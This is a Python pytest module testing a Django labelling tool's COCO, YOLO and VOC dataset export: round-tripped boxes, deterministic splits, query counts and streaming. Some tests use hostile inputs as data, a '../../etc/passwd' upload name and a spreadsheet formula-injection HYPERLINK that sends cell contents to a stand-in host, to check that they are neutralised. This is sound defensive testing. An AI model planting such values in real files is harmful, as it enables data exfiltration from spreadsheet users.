"""The export itself: archives read back by real consumers, splits, streaming and query counts."""

from __future__ import annotations

import io
import json
import logging
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import yaml
from django.core.files.storage import default_storage
from django.db import connection
from django.test.utils import CaptureQueriesContext
from PIL import Image as PILImage
from PIL import ImageOps
from pycocotools.coco import COCO

from batches import export as export_module
from batches.export import ExportError, ExportOptions, parse_split, prepare_export, subset_of
from batches.export.core import archive_stem
from batches.export.formats import CocoWriter
from batches.models import Annotation, Batch, Image
from tests.batches.export_helpers import build_dataset, export_bytes, export_zip, to_dataset
from tests.factories import make_batch


@pytest.fixture
def dataset(project, manager, annotator, reviewer):
    return build_dataset(project, manager=manager, annotator=annotator, reviewer=reviewer)


def stored_boxes(dataset, image):
    return sorted(dataset.boxes.get(image.pk, []))


def assert_same_boxes(exported, expected, tolerance):
    """Same classes in the same order (both sorted), coordinates within `tolerance` pixels."""
    assert [box[0] for box in exported] == [box[0] for box in expected]
    for got, want in zip(exported, expected, strict=True):
        assert got[1:] == pytest.approx(want[1:], abs=tolerance)


def class_order(project):
    return list(project.label_classes.order_by("pk"))


# --- COCO -----------------------------------------------------------------------------------------


def load_coco(archive, tmp_path, subset="default") -> COCO:
    path = tmp_path / f"instances_{subset}.json"
    path.write_bytes(archive.read(f"annotations/instances_{subset}.json"))
    return COCO(str(path))


def test_pycocotools_loads_the_coco_file_and_its_boxes_match_the_stored_ones(dataset, tmp_path):
    coco = load_coco(export_zip(dataset.project, format="coco"), tmp_path)

    assert sorted(coco.getImgIds()) == sorted(image.pk for image in dataset.images)
    for image in dataset.images:
        entry = coco.loadImgs(image.pk)[0]
        assert (entry["width"], entry["height"]) == (image.width, image.height)
        exported = sorted((a["category_id"], *a["bbox"]) for a in coco.loadAnns(coco.getAnnIds(imgIds=[image.pk])))
        assert_same_boxes(exported, stored_boxes(dataset, image), 0.01)


def test_coco_category_ids_are_the_label_class_ids(dataset, tmp_path):
    coco = load_coco(export_zip(dataset.project, format="coco"), tmp_path)

    assert [(c["id"], c["name"]) for c in coco.loadCats(coco.getCatIds())] == [
        (c.pk, c.name) for c in class_order(dataset.project)
    ]


@pytest.mark.filterwarnings("ignore:__array__ implementation:DeprecationWarning")
def test_coco_annotation_ids_are_the_stored_annotation_ids_with_area_and_polygon(dataset, tmp_path):
    coco = load_coco(export_zip(dataset.project, format="coco"), tmp_path)

    stored = Annotation.objects.filter(image__in=dataset.images)
    assert sorted(coco.getAnnIds()) == sorted(stored.values_list("pk", flat=True))
    annotation = stored.get(x=30.25)
    entry = coco.loadAnns(annotation.pk)[0]
    assert entry["area"] == pytest.approx(12.5 * 40)
    assert entry["iscrowd"] == 0
    assert entry["segmentation"] == [[30.25, 5, 42.75, 5, 42.75, 45, 30.25, 45]]
    assert coco.annToMask(entry).sum() > 0  # pycocotools can rasterise the polygon


def test_an_image_with_no_objects_is_listed_in_coco_without_annotations(dataset, tmp_path):
    coco = load_coco(export_zip(dataset.project, format="coco"), tmp_path)

    for image in (dataset.no_objects, dataset.never_annotated):
        assert image.pk in coco.imgs
        assert coco.getAnnIds(imgIds=[image.pk]) == []


def test_the_exif_rotated_image_keeps_its_upright_size_and_boxes(dataset, tmp_path):
    archive = export_zip(dataset.project, format="coco", include_images=True)
    coco = load_coco(archive, tmp_path)

    entry = coco.loadImgs(dataset.rotated.pk)[0]
    assert (entry["width"], entry["height"]) == (48, 64)
    [annotation] = coco.loadAnns(coco.getAnnIds(imgIds=[dataset.rotated.pk]))
    assert annotation["bbox"] == [5, 40, 30, 20]  # not clipped to the sideways 64×48 file
    picture = PILImage.open(io.BytesIO(archive.read(f"images/default/{entry['file_name']}")))
    assert picture.size == (64, 48)
    assert ImageOps.exif_transpose(picture).size == (entry["width"], entry["height"])


def test_batches_outside_the_dataset_column_are_never_exported(dataset, tmp_path):
    coco = load_coco(export_zip(dataset.project, format="coco"), tmp_path)

    review_images = set(Image.objects.filter(batch=dataset.review_batch).values_list("pk", flat=True))
    assert review_images and not review_images & set(coco.getImgIds())


def test_image_files_are_copied_byte_for_byte(dataset):
    archive = export_zip(dataset.project, format="coco", include_images=True)

    for image in dataset.images:
        name = f"images/default/{archive_stem(image.pk, image.original_name)}.jpg"
        with default_storage.open(image.file.name, "rb") as stored:
            assert archive.read(name) == stored.read()


def test_exporting_image_files_logs_no_warnings(dataset, caplog):
    export_zip(dataset.project, format="yolo", include_images=True)

    assert [r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING] == []


def test_the_coco_json_is_streamed_in_pieces_not_dumped_whole(dataset):
    export = prepare_export(dataset.project, ExportOptions(format="coco"))
    writer = CocoWriter(export)

    pieces = list(writer.instances("default"))

    assert len(pieces) >= 4  # header, images, the annotations' opening, annotations, end
    assert json.loads(b"".join(pieces))["images"]


# --- YOLO -----------------------------------------------------------------------------------------


def yolo_boxes(text: str, width: int, height: int, classes) -> list[tuple]:
    boxes = []
    for line in text.splitlines():
        index, cx, cy, w, h = line.split()
        values = [float(cx), float(cy), float(w), float(h)]
        assert all(0 <= value <= 1 for value in values)
        cx, cy, w, h = values
        boxes.append((classes[int(index)].pk, (cx - w / 2) * width, (cy - h / 2) * height, w * width, h * height))
    return sorted(boxes)


def test_yolo_labels_parse_and_convert_back_to_the_same_boxes_within_a_pixel(dataset):
    archive = export_zip(dataset.project, format="yolo")
    classes = class_order(dataset.project)

    for image in dataset.images:
        text = archive.read(f"labels/{archive_stem(image.pk, image.original_name)}.txt").decode()
        assert_same_boxes(yolo_boxes(text, image.width, image.height, classes), stored_boxes(dataset, image), 1.0)


def test_yolo_writes_empty_label_files_for_images_without_objects(dataset):
    archive = export_zip(dataset.project, format="yolo")

    for image in (dataset.no_objects, dataset.never_annotated):
        assert archive.read(f"labels/{archive_stem(image.pk, image.original_name)}.txt") == b""


def test_yolo_class_list_and_data_yaml_follow_the_class_ids(dataset):
    archive = export_zip(dataset.project, format="yolo", split=(80, 10, 10), seed=3)
    names = [c.name for c in class_order(dataset.project)]

    assert archive.read("classes.txt").decode().splitlines() == names
    data = yaml.safe_load(archive.read("data.yaml"))
    assert data["names"] == dict(enumerate(names))
    assert data["nc"] == len(names)
    # Only folders that images fell into (this small dataset leaves one subset empty): see the Ultralytics test.
    subsets = {name.split("/")[1] for name in archive.namelist() if name.startswith("labels/")}
    assert data["train"] == "images/train"
    assert {data[key] for key in ("train", "val", "test") if key in data} <= {f"images/{name}" for name in subsets}


def test_yolo_data_yaml_points_at_one_folder_without_a_split(dataset):
    data = yaml.safe_load(export_zip(dataset.project, format="yolo").read("data.yaml"))

    assert data["train"] == data["val"] == "images"
    assert "test" not in data


def test_the_rotated_image_is_normalised_by_its_upright_size_in_yolo(dataset):
    archive = export_zip(dataset.project, format="yolo")
    image = dataset.rotated

    line = archive.read(f"labels/{archive_stem(image.pk, image.original_name)}.txt").decode().split()
    assert [float(v) for v in line[1:]] == pytest.approx([20 / 48, 50 / 64, 30 / 48, 20 / 64], abs=1e-6)


# --- Pascal VOC -----------------------------------------------------------------------------------


def check_voc_structure(root: ET.Element, class_names: set[str]) -> list[tuple]:
    """The structure VOC readers rely on; returns (name, xmin, ymin, xmax, ymax) for each object."""
    assert root.tag == "annotation"
    assert root.findtext("filename")
    size = root.find("size")
    width, height, depth = (int(size.findtext(tag)) for tag in ("width", "height", "depth"))
    assert width > 0 and height > 0 and depth == 3
    objects = []
    for obj in root.findall("object"):
        assert obj.findtext("name") in class_names
        assert obj.findtext("difficult") in ("0", "1") and obj.findtext("truncated") in ("0", "1")
        bndbox = obj.find("bndbox")
        xmin, ymin, xmax, ymax = (int(bndbox.findtext(tag)) for tag in ("xmin", "ymin", "xmax", "ymax"))
        assert 1 <= xmin <= xmax <= width and 1 <= ymin <= ymax <= height
        objects.append((obj.findtext("name"), xmin, ymin, xmax, ymax))
    return objects


def test_voc_xml_has_the_required_structure_and_1_based_boxes_within_a_pixel(dataset):
    archive = export_zip(dataset.project, format="voc")
    classes = {c.pk: c.name for c in class_order(dataset.project)}

    for image in dataset.images:
        stem = archive_stem(image.pk, image.original_name)
        root = ET.fromstring(archive.read(f"Annotations/{stem}.xml"))
        assert root.findtext("filename") == f"{stem}.jpg"
        assert (int(root.findtext("size/width")), int(root.findtext("size/height"))) == (image.width, image.height)
        objects = sorted(check_voc_structure(root, set(classes.values())))
        expected = sorted((classes[c], x + 1, y + 1, x + w, y + h) for c, x, y, w, h in stored_boxes(dataset, image))
        assert_same_boxes(objects, expected, 1.0)


def test_voc_files_of_images_without_objects_have_no_object_element(dataset):
    archive = export_zip(dataset.project, format="voc")

    for image in (dataset.no_objects, dataset.never_annotated):
        root = ET.fromstring(archive.read(f"Annotations/{archive_stem(image.pk, image.original_name)}.xml"))
        assert check_voc_structure(root, set()) == []


def test_voc_escapes_class_names_and_lists_every_image_in_its_image_set(dataset):
    archive = export_zip(dataset.project, format="voc", include_images=True)

    names = {
        obj.findtext("name")
        for n in archive.namelist()
        if n.startswith("Annotations/")
        for obj in ET.fromstring(archive.read(n)).findall("object")
    }
    assert "traffic light & <sign>" in names
    listed = archive.read("ImageSets/Main/default.txt").decode().split()
    assert listed == [archive_stem(image.pk, image.original_name) for image in dataset.images]
    assert {f"JPEGImages/{stem}.jpg" for stem in listed} <= set(archive.namelist())


# --- choosing batches, splits -----------------------------------------------------------------


def test_an_export_of_chosen_batches_holds_only_their_images(dataset, tmp_path):
    night = dataset.batches[1]
    coco = load_coco(export_zip(dataset.project, format="coco", batch_ids=(night.pk,)), tmp_path)

    assert sorted(coco.getImgIds()) == sorted(image.pk for image in dataset.images_of(night))


def test_a_batch_outside_the_dataset_column_cannot_be_chosen(dataset):
    with pytest.raises(ExportError, match="not in this project's Dataset column"):
        prepare_export(dataset.project, ExportOptions(format="yolo", batch_ids=(dataset.review_batch.pk,)))


def test_an_empty_dataset_column_is_refused_with_a_clear_message(project, manager):
    make_batch(project, manager, images=3)

    with pytest.raises(ExportError, match="The Dataset column is empty"):
        prepare_export(project, ExportOptions(format="coco"))


def test_an_unknown_format_is_refused(dataset):
    with pytest.raises(ExportError, match="not an export format"):
        prepare_export(dataset.project, ExportOptions(format="csv"))


@pytest.mark.parametrize(
    ("text", "expected"), [("80,10,10", (80, 10, 10)), ("70, 30", (70, 30, 0)), ("0,0,100", (0, 0, 100))]
)
def test_split_percentages_are_read_from_text(text, expected):
    assert parse_split(text) == expected


@pytest.mark.parametrize("text", ["80,10", "50,50,50", "80;10;10", "a,b,c", "-10,60,50", "100"])
def test_bad_split_percentages_are_refused_clearly(text):
    with pytest.raises(ExportError):
        parse_split(text)


def test_the_split_is_a_function_of_the_seed_and_the_image_alone():
    ids = range(1, 2001)
    first = [subset_of(pk, 7, (80, 10, 10)) for pk in ids]

    assert first == [subset_of(pk, 7, (80, 10, 10)) for pk in reversed(ids)][::-1]
    assert first != [subset_of(pk, 8, (80, 10, 10)) for pk in ids]
    assert 0.76 < first.count("train") / len(first) < 0.84
    assert 0.07 < first.count("val") / len(first) < 0.13
    assert {subset_of(pk, 7, (100, 0, 0)) for pk in ids} == {"train"}


def subsets_in(archive) -> dict[str, str]:
    """image stem → subset, from a YOLO archive's label paths."""
    found = {}
    for name in archive.namelist():
        if name.startswith("labels/"):
            _, subset, file_name = name.split("/")
            found[file_name.removesuffix(".txt")] = subset
    return found


@pytest.fixture
def larger_dataset(project, manager, annotator, reviewer):
    batches = [make_batch(project, manager, images=60) for _ in range(2)]
    return [to_dataset(batch, manager=manager, annotator=annotator, reviewer=reviewer) for batch in batches]


def test_the_same_request_gives_the_same_split_and_another_seed_another(project, larger_dataset):
    first = subsets_in(export_zip(project, format="yolo", split=(60, 20, 20), seed=11))
    again = subsets_in(export_zip(project, format="yolo", split=(60, 20, 20), seed=11))
    other = subsets_in(export_zip(project, format="yolo", split=(60, 20, 20), seed=12))

    assert len(first) == 120 and set(first.values()) == {"train", "val", "test"}
    assert first == again
    assert first.keys() == other.keys() and first != other


def test_an_image_keeps_its_subset_when_the_export_holds_fewer_batches(project, larger_dataset):
    everything = subsets_in(export_zip(project, format="yolo", split=(60, 20, 20), seed=5))
    one_batch = subsets_in(
        export_zip(project, format="yolo", split=(60, 20, 20), seed=5, batch_ids=(larger_dataset[0].pk,))
    )

    assert len(one_batch) == 60
    assert all(everything[stem] == subset for stem, subset in one_batch.items())


def test_a_coco_split_writes_one_file_per_subset_partitioning_the_images(project, larger_dataset, tmp_path):
    archive = export_zip(project, format="coco", split=(70, 30, 0), seed=1)

    assert "annotations/instances_test.json" not in archive.namelist()
    train, val = (load_coco(archive, tmp_path, subset) for subset in ("train", "val"))
    assert set(train.getImgIds()).isdisjoint(val.getImgIds())
    assert len(train.getImgIds()) + len(val.getImgIds()) == 120


def test_voc_image_sets_partition_the_images_by_subset(project, larger_dataset):
    archive = export_zip(project, format="voc", split=(50, 25, 25), seed=9)

    lists = {s: archive.read(f"ImageSets/Main/{s}.txt").decode().split() for s in ("train", "val", "test")}
    assert sum(len(names) for names in lists.values()) == len({n for names in lists.values() for n in names}) == 120


# --- the archive as a whole -----------------------------------------------------------------------


def test_every_archive_has_a_readme_with_the_class_ids_and_conventions(dataset):
    readme = export_zip(dataset.project, format="voc", split=(80, 10, 10), seed=4).read("README.txt").decode()

    assert "1-based" in readme and "seed 4" in readme
    for index, label_class in enumerate(class_order(dataset.project)):
        assert f"  {index}  {label_class.pk}  {label_class.name}" in readme
    assert f"Images: {len(dataset.images)}" in readme


def test_a_missing_image_file_leaves_a_valid_zip_and_is_listed_in_the_readme(dataset):
    lost = dataset.images[0]
    default_storage.delete(lost.file.name)

    archive = export_zip(dataset.project, format="yolo", include_images=True)

    assert len([n for n in archive.namelist() if n.startswith("images/")]) == len(dataset.images) - 1
    assert lost.file.name in archive.read("README.txt").decode()


def test_archive_names_are_safe_and_unique_whatever_the_uploaded_name():
    assert archive_stem(7, "../../etc/passwd") == "7_passwd"
    assert archive_stem(8, "C:\\photos\\Straße 1.JPG") == "8_Strae_1"  # plain ASCII for every unzip tool
    assert archive_stem(9, "....") == "9"
    assert archive_stem(10, "photo.jpg") != archive_stem(11, "photo.jpg")


# --- streaming and query counts -------------------------------------------------------------------


def dataset_of(project, manager, annotator, reviewer, images: int) -> Batch:
    batch = to_dataset(
        make_batch(project, manager, images=images), manager=manager, annotator=annotator, reviewer=reviewer
    )
    label = project.label_classes.first()
    Annotation.objects.bulk_create(
        Annotation(image=image, label_class=label, x=1, y=2, w=30, h=40)
        for image in Image.objects.filter(batch=batch)
        for _ in range(2)
    )
    return batch


def export_queries(project, **options) -> int:
    with CaptureQueriesContext(connection) as queries:
        export_bytes(project, **options)
    return len(queries)


@pytest.mark.parametrize("fmt", ["coco", "yolo", "voc"])
def test_an_export_of_300_images_costs_the_same_queries_as_one_of_10(
    fmt, project, manager, annotator, reviewer, django_assert_max_num_queries
):
    small = dataset_of(project, manager, annotator, reviewer, 10)
    cost_small = export_queries(project, format=fmt, include_images=True, batch_ids=(small.pk,))
    large = dataset_of(project, manager, annotator, reviewer, 300)

    # Dataset batches, classes; then each pass over the images is one query for the rows plus, where
    # boxes are needed, one per chunk of CHUNK_SIZE images: COCO passes 3 times (images, annotations,
    # files), VOC twice (annotations and files, then the image set), YOLO once; and every format once more for
    # images.csv.
    with django_assert_max_num_queries(cost_small):
        export_bytes(project, format=fmt, include_images=True, batch_ids=(large.pk,))
    assert cost_small == {"coco": 7, "yolo": 5, "voc": 6}[fmt]


@pytest.mark.parametrize("fmt", ["coco", "yolo", "voc"])
def test_each_chunk_of_images_costs_a_constant_number_of_queries(
    fmt, project, manager, annotator, reviewer, monkeypatch
):
    monkeypatch.setattr(export_module.core, "CHUNK_SIZE", 100)
    sizes = [dataset_of(project, manager, annotator, reviewer, n) for n in (100, 200, 300)]
    costs = [export_queries(project, format=fmt, split=(80, 10, 10), batch_ids=(batch.pk,)) for batch in sizes]

    assert costs[1] - costs[0] == costs[2] - costs[1] <= 3


def test_the_archive_starts_streaming_before_the_database_is_read_to_the_end(
    project, manager, annotator, reviewer, monkeypatch
):
    monkeypatch.setattr(export_module.core, "CHUNK_SIZE", 50)
    monkeypatch.setattr(export_module.core, "FILE_CHUNK", 1024)
    batch = dataset_of(project, manager, annotator, reviewer, 300)
    total = export_queries(project, format="yolo", batch_ids=(batch.pk,))

    with CaptureQueriesContext(connection) as queries:
        stream = prepare_export(project, ExportOptions(format="yolo", batch_ids=(batch.pk,))).stream()
        first = next(stream)
        seen = len(queries)
        rest = b"".join(stream)

    assert first.startswith(b"PK\x03\x04")
    assert seen < total
    assert len(first) < len(first + rest) / 2


@pytest.mark.parametrize("split", [None, (80, 10, 10)])
def test_ultralytics_finds_the_images_from_any_working_folder(dataset, tmp_path, monkeypatch, split):
    """`path: .` pointed at the folder training started in, not the export's: "Dataset images not found"."""
    folder = tmp_path / "export"
    export_zip(dataset.project, format="yolo", include_images=True, split=split, seed=3).extractall(folder)
    elsewhere = tmp_path / "runs"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    yaml_file = folder / "data.yaml"
    data = yaml.safe_load(yaml_file.read_text())
    # ultralytics.data.utils.check_det_dataset: the dataset root is `path`, else the YAML file's folder; a relative
    # root that exists is taken as it is (against the working folder).
    root = Path(data.get("path") or yaml_file.parent)
    for key in ("train", "val", "test"):
        if key in data:
            assert (root / data[key]).resolve().is_dir(), (key, data)
            assert any((root / data[key]).iterdir())


@pytest.mark.parametrize("format", ["coco", "yolo", "voc"])
def test_a_labels_only_export_lists_which_uploaded_file_each_image_is(dataset, format):
    """The names in the archive are the id and an ASCII remainder ("تصویر.jpg" is "7.jpg", "a/img.jpg" and
    "c/img.jpg" both "N_img.jpg"): without a list, a team could not put its own files under them."""
    import csv

    archive = export_zip(dataset.project, format=format, split=(80, 10, 10), seed=3)
    text = archive.read("images.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    images = {image.pk: image for image in dataset.images}
    assert len(rows) == len(images)
    for row in rows:
        image = images[int(row["file_name"].split("_")[0].split(".")[0])]
        assert row["original_name"] == image.original_name
        assert (int(row["width"]), int(row["height"])) == (image.width, image.height)
        assert row["file_name"] == archive_stem(image.pk, image.original_name) + Path(image.file.name).suffix
    if format == "coco":
        listed = {
            (row["subset"], row["file_name"]) for row in rows
        }  # the COCO files name the same images, subset by subset
        named = set()
        for name in archive.namelist():
            if name.startswith("annotations/"):
                subset = name.removeprefix("annotations/instances_").removesuffix(".json")
                named |= {(subset, i["file_name"]) for i in json.loads(archive.read(name))["images"]}
        assert named == listed
    assert "images.csv" in archive.read("README.txt").decode()


def test_an_uploaded_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(dataset):
    """images.csv is made for spreadsheets (UTF-8 with a byte order mark): an uploaded file named
    "=HYPERLINK(…).jpg" would have been a live formula in the cell that names it."""
    import csv

    image = dataset.images[0]
    Image.objects.filter(pk=image.pk).update(original_name='=HYPERLINK("http://x.example/?"&A1,"open").jpg')
    Image.objects.filter(pk=dataset.images[1].pk).update(original_name="-5 degrees.jpg")

    archive = export_zip(dataset.project, format="coco")

    text = archive.read("images.csv").decode("utf-8-sig")
    rows = {int(row["file_name"].split("_")[0].split(".")[0]): row for row in csv.DictReader(io.StringIO(text))}
    assert rows[image.pk]["original_name"] == '\'=HYPERLINK("http://x.example/?"&A1,"open").jpg'
    assert rows[dataset.images[1].pk]["original_name"] == "'-5 degrees.jpg"
    assert rows[dataset.images[2].pk]["original_name"] == dataset.images[2].original_name
